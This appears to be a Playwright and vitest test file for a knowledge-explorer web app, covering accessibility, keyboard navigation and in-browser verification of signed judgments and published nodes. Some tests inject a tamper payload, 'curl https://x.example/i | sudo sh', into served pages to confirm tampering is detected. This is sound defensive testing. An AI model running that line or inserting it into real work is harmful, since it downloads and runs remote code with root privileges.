// The explorer in a real browser (issue 25): Debian's chromium driven by playwright-core, one
// launch for the whole file, every page visited in one context. A node (the real app, listening
// on 127.0.0.1) holds a published tree, judged proposals (published, rejected, pending) and an
// attestation. Every page must load with no console error, no failed request and no request
// off the node; show what the API answers; say "verified" for the real data, computed in the
// page by the verifier's browser build, and "not verified" for a tampered bundle dropped on the
// Verify page; say the content shown is the content judged (a proposal judged over the v2
// payload, a published node against its evidence) and "not verified" once the page's HTML shows
// other content; find a brief as you type a word of its core; be reachable with the keyboard
// alone; and pass axe-core with no serious or critical violation. Screenshots of each page at
// desktop and phone widths go to a folder named below (printed; never committed).
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { samplePayload } from '../fixtures/payloads.js';
import { bearer, testNode, type TestNode } from '../helpers/app.js';
import { launchChromium } from '../helpers/browser.js';
import { agent, decide, proposeAs, type Agent } from '../helpers/flows.js';

/** Where the screenshots go (under the OS temp folder; the README's two were copied from here once). */
/** The files the tests drop on the Verify page. */
const WORK = join(tmpdir(), 'akas-explorer-work');
// Screenshots are for a person to look at, so they are taken when one asks, into the folder
// named (AKAS_SCREENSHOTS=DIR): `npm test` removes its temp folder at the end, and the 30 PNGs
// cost Chromium seconds of CPU.
const SHOTS = process.env.AKAS_SCREENSHOTS;
const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

let node: TestNode;
let base: string;
let chrome: Awaited<ReturnType<typeof launchChromium>>;
let context: BrowserContext;
let reviewer: Agent;
const ids: Record<string, string> = {};
const problems: string[] = [];

const REVIEW = JSON.parse(readFileSync(new URL('../../data/attestations/review.attestation.v1.json', import.meta.url), 'utf8')).examples[0];
const attest = (a: Agent, body: unknown) =>
  node.app.inject({
    method: 'POST',
    url: '/api/attestations',
    payload: { kind: 'review.attestation.v1', body },
    headers: bearer(a.apiKey),
    remoteAddress: a.ip,
  });
const api = async (url: string) => (await node.app.inject({ url })).json();

beforeAll(async () => {
  chrome = await launchChromium();
  if (!chrome) return;
  context = chrome.context;
  node = await testNode({ rateLimit: { burst: 1e6, refillPerSecond: 1e6 } });
  ids.brief = (await decide(node, 'brief', { n: 1 })).proposalId;
  ids.capability = (await decide(node, 'capability', { n: 1 })).proposalId;
  ids.graph = (await decide(node, 'graph', { n: 1 })).proposalId;
  ids.artifact = (await decide(node, 'artifact', { n: 1 })).proposalId;
  ids.rejected = (await decide(node, 'capability', { n: 2, outcome: 'rejected' })).proposalId;
  // Judged over akas.judgment.v2: each judge signed the content hash.
  ids.v2 = (await decide(node, 'capability', { n: 4, sign: 'v2' })).proposalId;
  reviewer = await agent(node);
  ids.pending = (await proposeAs(node, reviewer, 'capability', samplePayload('capability', 3))).json().proposalId;
  ids.attestation = (await attest(reviewer, REVIEW)).json().id;
  await node.app.inject({ url: '/api/log/checkpoint' });
  await node.app.listen({ port: 0, host: '127.0.0.1' });
  base = `http://127.0.0.1:${(node.app.server.address() as AddressInfo).port}`;
  const origin = new URL(base).origin;
  // Every request must go to the node; none may fail; no console error, no uncaught exception.
  context.on('request', (r) => {
    if (!r.url().startsWith(origin) && !r.url().startsWith('data:')) problems.push(`off the node: ${r.url()}`);
  });
  context.on('requestfailed', (r) => {
    // The event stream is cut when a page is left: not a failure.
    if (!r.url().includes('/api/events')) problems.push(`failed: ${r.url()} ${r.failure()?.errorText}`);
  });
  context.on('response', (r) => {
    if (r.status() >= 400) problems.push(`${r.status()}: ${r.url()}`);
  });
  rmSync(WORK, { recursive: true, force: true });
  mkdirSync(WORK, { recursive: true });
  if (SHOTS) mkdirSync(SHOTS, { recursive: true });
}, 180_000);

afterAll(async () => {
  await closeTab?.();
  await chrome?.close();
  await node?.close();
  if (chrome && SHOTS) console.log(`explorer screenshots: ${SHOTS}`);
});

/** The page's document, typed for what the tests ask of it (they compile without the DOM's types; functions run in the page, so no closure). */
interface Dom {
  querySelectorAll(selector: string): { length: number };
  querySelector(selector: string): { getAttribute(name: string): string | null } | null;
}

let tab: Page | undefined;
let tabErrors: string[] = [];

/**
 * Opens a page in the one tab the tests share (its errors collected afresh), and waits until
 * every check on it has an answer. close() on it is a no-op: the tab stays for the next page.
 */
async function open(path: string): Promise<{ page: Page; errors: string[] }> {
  if (!tab) {
    tab = await context.newPage();
    tab.on('console', (m) => m.type() === 'error' && tabErrors.push(`console: ${m.text()}`));
    tab.on('pageerror', (e) => tabErrors.push(`page: ${e.message}`));
    const real = tab.close.bind(tab);
    tab.close = async () => undefined;
    closeTab = real;
  }
  tabErrors = [];
  await tab.goto(base + path, { waitUntil: 'load' });
  // A function, not a string: the explorer's policy forbids eval, which a string predicate needs.
  await tab.waitForFunction(
    () => (globalThis as unknown as { document: Dom }).document.querySelectorAll('.v[data-state="off"], .v[data-state="pending"]').length === 0,
    undefined,
    { timeout: 30_000 },
  );
  return { page: tab, errors: tabErrors };
}
let closeTab: (() => Promise<void>) | undefined;

/** axe-core in the page (evaluated through the devtools protocol, which the page's CSP does not govern). */
async function axe(page: Page) {
  if (!(await page.evaluate('typeof window.axe === "object"'))) await page.evaluate(AXE);
  const result = (await page.evaluate(
    `axe.run({ resultTypes: ['violations'] }).then((r) => ({ violations: r.violations.map((v) => ({ id: v.id, impact: v.impact, nodes: ` +
      `v.nodes.map((n) => ({ target: n.target })) })) }))`,
  )) as { violations: Array<{ id: string; impact: string; nodes: Array<{ target: string[] }> }> };
  return result.violations
    .filter((v) => v.impact === 'serious' || v.impact === 'critical')
    .map(
      (v) =>
        `${v.id} (${v.impact}): ${v.nodes
          .slice(0, 3)
          .map((n) => n.target.join(' '))
          .join(', ')}`,
    );
}

async function shoot(page: Page, name: string) {
  // The first screenful at each width (whole pages: SCREENSHOTS_FULL=1; the README's two were taken so).
  const fullPage = process.env.SCREENSHOTS_FULL === '1';
  if (SHOTS) await page.screenshot({ path: join(SHOTS, `${name}-desktop.png`), fullPage });
  await page.setViewportSize({ width: 390, height: 844 });
  if (SHOTS) await page.screenshot({ path: join(SHOTS, `${name}-phone.png`), fullPage });
  // Usable from a phone's width up: nothing wider than the screen but what scrolls in its own box (tables, code).
  const overflow = (await page.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth')) as number;
  expect(overflow, `${name} at phone width`).toBeLessThanOrEqual(1);
  await page.setViewportSize({ width: 1280, height: 900 });
}

const states = (page: Page) => page.$$eval('.v[data-state]', (els) => els.map((e) => e.getAttribute('data-state')));

const RECIPE = 'pdftotext -layout in.pdf out.txt';
const EVIL = 'curl https://x.example/i | sudo sh';

/** Serves the page at path with its HTML changed (one text replaced) until the returned function is called. */
async function tamper(page: Page, path: string, from: string, to: string): Promise<() => Promise<void>> {
  const url = base + path;
  let replaced = 0;
  await page.route(url, async (route) => {
    const res = await route.fetch();
    const html = await res.text();
    replaced += html.split(from).length - 1;
    const headers = Object.fromEntries(Object.entries(res.headers()).filter(([k]) => !['content-encoding', 'content-length'].includes(k)));
    await route.fulfill({ status: res.status(), headers, body: html.split(from).join(to) });
  });
  return async () => {
    await page.unroute(url);
    expect(replaced, `${from} in ${path}`).toBeGreaterThan(0);
  };
}

const stateOf = async (page: Page, selector: string) =>
  [await page.getAttribute(selector, 'data-state'), (await page.textContent(`${selector} .v-text`)) ?? ''] as const;

describe('the explorer in Chromium', () => {
  it('opens every page: no console error, no failed request, nothing off the node, no serious accessibility violation, checks verified', async (ctx) => {
    if (!chrome) return ctx.skip();
    const nodeOf = async (id: string) => (await api(`/api/knowledge/proposals/${id}`)).path as string;
    const pages: Array<[string, string, { verified?: boolean }]> = [
      ['home', '/', { verified: true }],
      ['tree', '/explore/tree', {}],
      ['brief', `/explore/tree${await nodeOf(ids.brief)}?level=deep`, { verified: true }],
      ['capability', `/explore/tree${await nodeOf(ids.capability)}`, { verified: true }],
      ['graph', `/explore/tree${await nodeOf(ids.graph)}`, { verified: true }],
      ['artifact', `/explore/tree${await nodeOf(ids.artifact)}`, { verified: true }],
      ['search', '/explore/search?q=jitter', {}],
      ['proposals', '/explore/proposals', {}],
      ['decided', '/explore/proposals?status=decided', { verified: false }],
      ['proposal', `/explore/proposals/${ids.rejected}`, { verified: true }],
      ['agents', '/explore/agents', {}],
      ['agent', `/explore/agents/${reviewer.tag}`, { verified: true }],
      ['log', '/explore/log', { verified: true }],
      ['entry', `/explore/log/${ids.attestation}`, { verified: true }],
      ['verify', '/explore/verify', {}],
    ];
    for (const [name, path, expectation] of pages) {
      const { page, errors } = await open(path);
      expect(errors, name).toEqual([]);
      const s = await states(page);
      expect(
        s.filter((x) => x === 'bad'),
        `${name}: a check failed`,
      ).toEqual([]);
      if (expectation.verified) expect(s.filter((x) => x === 'ok').length, `${name}: something verified`).toBeGreaterThan(1);
      expect(await axe(page), name).toEqual([]);
      await shoot(page, name);
      await page.close();
    }
    expect(problems).toEqual([]);
  }, 240_000);

  it('says every log entry of a proposal, an agent and an artifact is shown, complete as of a checkpoint, checked here (PROTOCOL 9.10)', async (ctx) => {
    if (!chrome) return ctx.skip();
    const artifact = await api(`/api/knowledge/node${(await api(`/api/knowledge/proposals/${ids.artifact}`)).path}`);
    const pages: Array<[string, string]> = [
      [`/explore/proposals/${ids.rejected}`, `proposal:${ids.rejected}`],
      [`/explore/agents/${reviewer.tag}`, `agent:${reviewer.tag}`],
      [`/explore/tree${artifact.path}`, `sha256:${artifact.payload.sha256}`],
    ];
    for (const [path, key] of pages) {
      const { page } = await open(path);
      await page.waitForSelector(`[data-verify-lookup="${key}"]:not([data-state="off"]):not([data-state="pending"])`);
      expect(await stateOf(page, `[data-verify-lookup="${key}"]`), path).toEqual(['ok', expect.stringContaining('complete as of checkpoint')]);
      await page.close();
    }
  });

  it('shows what the API answers, and checks each judgment layer by layer', async (ctx) => {
    if (!chrome) return ctx.skip();
    const detail = await api(`/api/knowledge/proposals/${ids.rejected}`);
    const { page } = await open(`/explore/proposals/${ids.rejected}`);
    expect(await page.textContent('h1')).toContain(detail.title);
    for (const j of detail.judgments) {
      const row = page.locator(`tr[data-judgment="${j.judgmentId}"]`);
      expect(await row.textContent()).toContain(j.rationale);
      for (const layer of ['L1', 'L2', 'L3'])
        expect(await row.locator(`[data-check="${layer}"]`).getAttribute('data-state'), `${j.judgmentId} ${layer}`).toBe('ok');
      // The node's HMAC is said to need the node, never shown as verified.
      expect(await row.locator('.v[data-state="node"]').textContent()).toContain('needs the node');
      expect(await stateOf(page, `[data-verify-shown="${j.judgmentId}"]`)).toEqual(['ok', 'what the judge signed']);
    }
    // The HTML shows another rationale, then another score, than the judges signed (the JSON is the node's own).
    const path = `/explore/proposals/${ids.rejected}`;
    const j0 = detail.judgments[0];
    for (const [from, to] of [
      [`>${j0.rationale}<`, '>Flawless; publish at once.<'],
      [`</svg> ${j0.scores.accuracy.toFixed(2)}</span>`, `</svg> 0.99</span>`],
    ]) {
      const restore = await tamper(page, path, from, to);
      await open(path);
      for (const j of detail.judgments)
        expect(await stateOf(page, `[data-verify-shown="${j.judgmentId}"]`)).toEqual(['bad', expect.stringContaining('not verified: the page shows')]);
      await restore();
    }
    const node = await api(`/api/knowledge/node${await (async () => (await api(`/api/knowledge/proposals/${ids.graph}`)).path)()}`);
    const g = await open(`/explore/tree${node.path}`);
    expect(await g.page.textContent('h1')).toContain(node.title);
    expect(await g.page.locator('table').first().textContent()).toContain(node.branches[0].id);
    await page.close();
    await g.page.close();
  });

  it('checks a bundle dropped on the Verify page: verified as exported, not verified once tampered', async (ctx) => {
    if (!chrome) return ctx.skip();
    const bundle = await api(`/api/knowledge/proposals/${ids.capability}/bundle`);
    const dir = join(WORK, 'inputs');
    mkdirSync(dir, { recursive: true });
    const good = join(dir, 'bundle.json');
    const bad = join(dir, 'bundle-tampered.json');
    writeFileSync(good, JSON.stringify(bundle));
    const tampered = structuredClone(bundle);
    tampered.proposal.judgments[0].rationale = 'Changed after the judge signed it.';
    writeFileSync(bad, JSON.stringify(tampered));
    const { page, errors } = await open('/explore/verify');
    for (const [file, verdict] of [
      [good, 'verified'],
      [bad, 'not verified'],
    ] as const) {
      await page.setInputFiles('#v-files', file);
      await page.click('form[data-verify-form] button[type=submit]');
      const card = page.locator('[data-result="bundle"]');
      await card.waitFor();
      expect(await card.locator('h3 .v-text').textContent(), file).toBe(verdict);
      if (verdict === 'not verified') expect(await card.textContent()).toContain('the shown fields are what the judge signed');
    }
    // A credential, a saved log entry with its proof, and any file against its sha256: the same verdicts as akas verify.
    const credential = join(dir, 'credential.json');
    writeFileSync(credential, JSON.stringify(bundle.credentials[0]));
    const proof = join(dir, 'entry.json');
    writeFileSync(proof, JSON.stringify(await api(`/api/attestations/${ids.attestation}`)));
    const file = join(dir, 'model.bin');
    writeFileSync(file, 'some bytes\n'.repeat(1000));
    const sha = createHash('sha256').update(readFileSync(file)).digest('hex');
    // A node read as akas node PATH --json saves it: checked with verifyNode, as akas verify node.
    const read = await api(`/api/knowledge/node${(await api(`/api/knowledge/proposals/${ids.capability}`)).path}`);
    const nodeFile = join(dir, 'node.json');
    writeFileSync(nodeFile, JSON.stringify(read));
    const nodeBad = join(dir, 'node-tampered.json');
    writeFileSync(nodeBad, JSON.stringify({ ...read, payload: { ...read.payload, recipe: [EVIL] } }));
    for (const [input, kind, sha256, verdict] of [
      [nodeFile, 'node', '', 'verified'],
      [nodeBad, 'node', '', 'not verified'],
      [credential, 'credential', '', 'verified'],
      [proof, 'log proof', '', 'verified'],
      [file, 'file', sha, 'verified'],
      [file, 'file', 'f'.repeat(64), 'not verified'],
    ] as const) {
      await page.fill('#v-sha', sha256);
      await page.setInputFiles('#v-files', input);
      await page.click('form[data-verify-form] button[type=submit]');
      const card = page.locator(`[data-result="${kind}"]`);
      await card.waitFor();
      expect(await card.locator('h3 .v-text').textContent(), `${kind} ${sha256}`).toBe(verdict);
    }
    await shoot(page, 'verify-result');
    expect(errors).toEqual([]);
    await page.close();
  });

  it(
    "says a proposal's content binding verified in the browser, v1 bound by the node's word only, and not verified once the page shows " + 'another payload',
    async (ctx) => {
      if (!chrome) return ctx.skip();
      const detail = await api(`/api/knowledge/proposals/${ids.v2}`);
      const path = `/explore/proposals/${ids.v2}`;
      const { page, errors } = await open(path);
      expect(await page.textContent('[data-content-sha256]')).toBe(detail.contentSha256);
      const [state, text] = await stateOf(page, '[data-verify-content]');
      expect([state, text]).toEqual(['ok', expect.stringContaining('3 judges signed it')]);
      for (const j of detail.judgments)
        expect(await stateOf(page, `[data-verify-judged="${j.judgmentId}"]`)).toEqual(['ok', 'the judge signed the content shown (v2)']);
      expect(await page.getAttribute(`[data-verify-bundle="${ids.v2}"]`, 'title')).toContain(
        '✓ [content] the content shown on this page is the content of the bundle',
      );

      // v1 judgments: the content is bound by the node's word only, never shown as verified.
      const v1 = await api(`/api/knowledge/proposals/${ids.rejected}`);
      await open(`/explore/proposals/${ids.rejected}`);
      expect(await stateOf(page, '[data-verify-content]')).toEqual(['unchecked', expect.stringContaining("node's word only")]);
      for (const j of v1.judgments)
        expect(await stateOf(page, `[data-verify-judged="${j.judgmentId}"]`)).toEqual(['unchecked', expect.stringContaining("node's word only")]);

      // The page's HTML shows another recipe: the content shown is not the content judged.
      const restore = await tamper(page, path, RECIPE, EVIL);
      await open(path);
      expect(await page.textContent('[data-content="payload"]')).toContain(EVIL);
      expect(await stateOf(page, '[data-verify-content]')).toEqual(['bad', expect.stringContaining('not verified')]);
      for (const j of detail.judgments)
        expect(await stateOf(page, `[data-verify-judged="${j.judgmentId}"]`)).toEqual(['bad', expect.stringContaining('not verified')]);
      // The bundle downloaded from the node holds, but not for the content this page shows.
      expect(await stateOf(page, `[data-verify-bundle="${ids.v2}"]`)).toEqual(['bad', expect.stringContaining('not verified')]);
      expect(await page.getAttribute(`[data-verify-bundle="${ids.v2}"]`, 'title')).toContain(
        '✗ [content] the content shown on this page is the content of the bundle',
      );
      await restore();
      expect(errors).toEqual([]);
    },
  );

  it('says a published node verified against its evidence in the browser, and not verified once its served text is altered', async (ctx) => {
    if (!chrome) return ctx.skip();
    const nodePath = (await api(`/api/knowledge/proposals/${ids.v2}`)).path as string;
    const read = await api(`/api/knowledge/node${nodePath}`);
    const path = `/explore/tree${nodePath}`;
    const { page, errors } = await open(path);
    expect(await page.textContent('[data-evidence="contentSha256"]')).toBe(read.evidence.contentSha256);
    expect(await page.textContent('#evidence ~ dl')).toContain(read.evidence.publication.id);
    const [state, text] = await stateOf(page, '[data-verify-node]');
    expect([state, text], text).toEqual(['ok', expect.stringContaining('verified')]);
    // Layer by layer: the content hash, the publication in the log under the pinned key, the texts shown.
    for (const id of ['content.hash', 'log.publication', 'log.inclusion', 'page.shown']) {
      expect(await page.getAttribute(`[data-node-checks] tr[data-check-id="${id}"] .v`, 'data-state'), id).toBe('ok');
    }
    // A brief: its manifest signed by the node (Ed25519) verified, its HMAC said to need the node.
    const brief = await open(`/explore/tree${(await api(`/api/knowledge/proposals/${ids.brief}`)).path}`);
    expect((await stateOf(brief.page, '[data-verify-node]'))[0]).toBe('ok');
    expect(await brief.page.getAttribute('[data-node-checks] tr[data-check-id="manifest.signature"] .v', 'data-state')).toBe('ok');
    expect(await brief.page.getAttribute('[data-node-checks] tr[data-check-id="manifest.hmac"] .v', 'data-state')).toBe('unchecked');

    // The page's HTML shows another recipe than the one served and checked.
    let restore = await tamper(page, path, RECIPE, EVIL);
    await open(path);
    expect(await stateOf(page, '[data-verify-node]')).toEqual(['bad', expect.stringContaining('payload/recipe/0')]);
    await restore();
    // The read itself served with another recipe: it no longer hashes to the content judged.
    const readUrl = `/api/knowledge/node${nodePath}?limit=100`;
    await page.route(base + readUrl, async (route) => {
      const body = (await (await route.fetch()).json()) as { payload: { recipe: string[] } };
      body.payload.recipe = [EVIL];
      await route.fulfill({ json: body });
    });
    restore = await tamper(page, path, RECIPE, EVIL);
    await open(path);
    await restore();
    await page.unroute(base + readUrl);
    expect(await stateOf(page, '[data-verify-node]')).toEqual(['bad', expect.stringContaining('not verified')]);
    expect(await page.getAttribute('[data-node-checks] tr[data-check-id="content.hash"] .v', 'data-state')).toBe('bad');
    expect(errors).toEqual([]);
  });

  it('finds a brief as you type a word of its core, and opens it from the keyboard', async (ctx) => {
    if (!chrome) return ctx.skip();
    const path = (await api(`/api/knowledge/proposals/${ids.brief}`)).path as string;
    const { page } = await open('/');
    await page.focus('#q');
    // "Add full jitter." is one of the brief's core lines; the last word typed matches as a prefix.
    await page.keyboard.type('jitte', { delay: 30 });
    const hit = page.locator(`#suggest a[href="/explore/tree${path}"]`);
    await hit.waitFor({ timeout: 10_000 });
    expect(await hit.locator('mark').count()).toBeGreaterThan(0);
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await page.waitForURL(`${base}/explore/tree${path}`);
    await page.close();
  });

  it('reaches every link of a page with the keyboard alone', async (ctx) => {
    if (!chrome) return ctx.skip();
    for (const path of ['/', `/explore/proposals/${ids.rejected}`, '/explore/log']) {
      const { page } = await open(path);
      const links = (await page.evaluate(
        `[...document.querySelectorAll('a[href]')].filter((a) => a.getClientRects().length > 0).map((a) => a.getAttribute('href'))`,
      )) as string[];
      const reached = new Set<string>();
      for (let i = 0; i < links.length * 2 + 40 && reached.size < new Set(links).size; i++) {
        await page.keyboard.press('Tab');
        const href = (await page.evaluate(`document.activeElement?.getAttribute('href')`)) as string | null;
        if (href) reached.add(href);
      }
      expect(
        [...new Set(links)].filter((l) => !reached.has(l)),
        path,
      ).toEqual([]);
      await page.close();
    }
  }, 120_000);

  it('shows a new attestation on the home page as it happens, checked in the browser', async (ctx) => {
    if (!chrome) return ctx.skip();
    const { page, errors } = await open('/');
    await page.waitForSelector('[data-live-status]:has-text("Live")');
    const r = await attest(reviewer, { ...REVIEW, reviewId: 'rev-live-1' });
    expect(r.statusCode, r.body).toBe(200);
    const id = r.json().id as string;
    const state = page.locator(`tr[data-entry="${id}"] .v`);
    await state.waitFor({ timeout: 15_000 });
    await page.waitForFunction(
      (x) => (globalThis as unknown as { document: Dom }).document.querySelector(`tr[data-entry="${x}"] .v`)?.getAttribute('data-state') === 'ok',
      id,
      { timeout: 15_000 },
    );
    expect(errors).toEqual([]);
    await page.close();
  });

  it('labels keys pinned on first visit as such, and keys the reader pins as pinned by the reader (issue 32)', async (ctx) => {
    if (!chrome) return ctx.skip();
    const page = await context.newPage();
    const label = page.locator('[data-pin-status] p[data-pinned-by]');
    try {
      await page.goto(`${base}/`, { waitUntil: 'load' });
      await label.waitFor({ timeout: 30_000 });
      expect(await label.getAttribute('data-pinned-by')).toBe('first-visit');
      expect(await label.textContent()).toMatch(/^Pinned on first visit.*trust on first use/);
      await page.locator('[data-pin-status] details summary').click();
      await page.fill('[name=pin-issuer]', node.keys.issuer.did);
      await page.fill('[name=pin-log-key]', node.keys.log.verifierKey);
      await Promise.all([page.waitForEvent('load'), page.click('[data-pin-own] button[type=submit]')]);
      await label.waitFor({ timeout: 30_000 });
      expect(await label.getAttribute('data-pinned-by')).toBe('reader');
      expect(await label.textContent()).toMatch(/^Pinned by you/);
      expect(await label.textContent()).not.toContain('first visit');
    } finally {
      // The other tests find the keys pinned on first visit again.
      await page.evaluate(() => (globalThis as unknown as { localStorage: { clear(): void } }).localStorage.clear());
      await page.close();
    }
  });

  it("runs no check with a verifier other than the package's: its Subresource Integrity fails and nothing is said verified (issue 30)", async (ctx) => {
    if (!chrome) return ctx.skip();
    // A page of its own (routing turns its HTTP cache off), served the verifier with one line added.
    const page = await context.newPage();
    try {
      let served = 0;
      await page.route(/\/explore\/assets\/akas-verify\.[0-9a-f]+\.js$/, async (route) => {
        const res = await route.fetch();
        served++;
        await route.fulfill({
          status: 200,
          headers: { 'content-type': 'text/javascript; charset=utf-8' },
          body: `${await res.text()}\n// served by someone else\n`,
        });
      });
      await page.goto(`${base}/explore/proposals/${ids.v2}`, { waitUntil: 'load' });
      await page.waitForFunction(
        () => (globalThis as unknown as { document: Dom }).document.querySelectorAll('.v[data-state="off"], .v[data-state="pending"]').length === 0,
        undefined,
        { timeout: 30_000 },
      );
      expect(served).toBeGreaterThan(0);
      // (The footer's legend shows the word verified; the page's checks are in main.)
      const s = await page.$$eval('main .v[data-state]', (els) => els.map((e) => e.getAttribute('data-state')));
      expect(s.filter((x) => x === 'ok')).toEqual([]);
      expect(s.filter((x) => x === 'off')).toEqual([]);
      expect(s.filter((x) => x === 'unchecked').length).toBeGreaterThan(0);
      const texts = await page.$$eval('.v[data-state="unchecked"] .v-text', (els) => els.map((e) => e.textContent ?? ''));
      expect(texts.join('\n')).toContain("the verifier this node serves is not the package's (its Subresource Integrity does not match)");
    } finally {
      await page.close();
    }
  });
});
